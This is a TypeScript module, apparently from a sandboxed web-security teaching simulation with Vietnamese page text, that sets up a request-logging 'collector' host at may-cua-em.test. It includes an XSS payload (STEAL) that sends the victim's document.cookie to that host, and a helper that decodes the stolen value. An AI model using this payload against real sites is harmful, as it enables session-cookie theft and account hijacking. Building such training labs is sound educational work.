import { esc, html, page, type SimHost } from '../http.ts';

/** The learner's own machine in the simulated web: it logs every request the victim's browser makes to it. */
export const COLLECTOR = 'may-cua-em.test';

export function collectorHost(log: string[]): SimHost {
  return { host: COLLECTOR, routes: {
    'GET /': () => html(page('Máy của em', `<h1>Máy của em (nhật kí nhận)</h1><p>Mọi yêu cầu gửi tới http://${COLLECTOR}/ được ghi ở đây.</p><ol>${log.map((l) => `<li><code>${esc(l)}</code></li>`).join('')}</ol>`)),
  } };
}

/** Keeps what the victim's page sent to the collector (other hosts: no network in the simulation). */
export function record(log: string[], urls: string[]): number {
  let n = 0;
  for (const u of urls) {
    try {
      if (new URL(u, `http://${COLLECTOR}/`).hostname === COLLECTOR) { log.push(u); n++; }
    } catch { /* not a URL */ }
  }
  return n;
}

/** A payload that sends the victim's cookie to the learner's machine. */
export const STEAL = `<script>fetch('http://${COLLECTOR}/?c=' + encodeURIComponent(document.cookie))</script>`;
export const cookieFrom = (body: string) => decodeURIComponent(/\?c=([^<\s]+)/.exec(body)?.[1] ?? '');
